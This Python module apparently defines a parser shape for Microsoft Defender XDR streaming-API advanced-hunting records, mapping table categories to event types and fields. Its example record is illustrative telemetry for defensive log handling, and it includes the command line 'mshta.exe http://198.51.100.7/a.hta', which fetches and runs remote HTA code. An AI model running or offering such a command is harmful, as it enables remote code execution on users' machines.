"""Microsoft Defender XDR's streaming API (Event Hubs, storage): a row of advanced hunting under ``properties``."""

from __future__ import annotations

from ..model import First, Lookup, Time
from .defender import SHAPE as _ROW
from .derive import under
from .parts import at

_UNDER = under(_ROW, "properties")
_TABLES = ("DeviceNetworkEvents", "DeviceProcessEvents", "DeviceFileEvents", "DeviceRegistryEvents",
           "DeviceImageLoadEvents", "DeviceLogonEvents", "DeviceEvents")  # fmt: skip
_TABLE = Lookup(at("category"), tuple((f"advancedhunting-{name.lower()}", name) for name in _TABLES), at("category"))
_TYPES = tuple((f"advancedhunting-{name}", what) for name, what in (
    ("devicenetworkevents", "network_connection"), ("deviceprocessevents", "process_creation"),
    ("devicefileevents", "file_event"), ("deviceregistryevents", "registry_event"),
    ("deviceimageloadevents", "image_load"), ("devicelogonevents", "logon"),
))  # fmt: skip

SHAPE = under(
    _ROW,
    "properties",
    name="defender-stream",
    title="Microsoft Defender streaming API",
    rank=91,
    fields=_UNDER.fields
    | {
        "event_type": First((_UNDER.fields["event_type"], Lookup(at("category"), _TYPES))),
        "_sourceName": _TABLE,
    },
    time=(*_UNDER.time, Time(at("time"))),
    bags=(("properties",),),
    doc="Records of the streaming API: ``category`` names the table, ``properties`` is the row, ``time`` its receipt.",
    example=r"""{"time": "2024-03-05T09:15:45.000Z", "tenantId": "t-1", "operationName": "Publish",
        "category": "AdvancedHunting-DeviceProcessEvents", "properties": {"Timestamp": "2024-03-05T09:15:30.123Z",
            "DeviceName": "desk07.corp.example", "ActionType": "ProcessCreated", "FileName": "mshta.exe",
            "FolderPath": "C:\\Windows\\System32", "ProcessId": 5124,
            "ProcessCommandLine": "mshta.exe http://198.51.100.7/a.hta", "AccountDomain": "corp",
            "AccountName": "mira", "InitiatingProcessFileName": "explorer.exe",
            "InitiatingProcessFolderPath": "c:\\windows\\explorer.exe", "InitiatingProcessId": 4100,
            "InitiatingProcessCommandLine": "explorer.exe", "AdditionalFields": null}}""",
)
